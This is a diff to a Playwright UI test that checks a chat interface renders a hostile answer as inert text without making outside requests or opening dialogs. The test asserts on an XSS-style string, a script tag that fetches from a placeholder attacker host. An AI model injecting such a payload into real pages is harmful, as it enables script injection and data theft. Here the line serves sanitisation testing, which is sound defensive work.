@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from browser import CHROMIUM, violations
 from fastapi import FastAPI
-from playwright.sync_api import Browser, BrowserContext, Locator, Page, ViewportSize, expect
+from playwright.sync_api import Browser, BrowserContext, Dialog, Locator, Page, ViewportSize, expect
 
 from tests.ui.conftest import Fake, running
 from tests.ui.samples import HOSTILE, MARKDOWN
@@ -167,12 +167,17 @@ def test_a_hostile_answer_calls_nobody(loaded: Page, fake: Fake):
     """The fixture fails on a request to another origin, and on an error in the console, which a blocked one leaves."""
     fake.words, fake.thoughts = [HOSTILE], [HOSTILE]
     dialogs: list[str] = []
-    loaded.on("dialog", lambda dialog: dialogs.append(dialog.message))
+
+    def note(dialog: Dialog) -> None:
+        dialogs.append(dialog.message)
+
+    loaded.on("dialog", note)
     ask(loaded, HOSTILE)
     expect_answer(loaded)
     expect(conversation(loaded)).to_contain_text("<script>fetch('http://evil.invalid/c')</script>")
     assert conversation(loaded).locator("img, script, iframe, image, [href^=javascript]").count() == 0
     assert dialogs == []
+    loaded.remove_listener("dialog", note)
 
 
 def test_two_browsers_do_not_see_each_other_and_the_page_outlives_its_server(fake: Fake, browser: Browser):
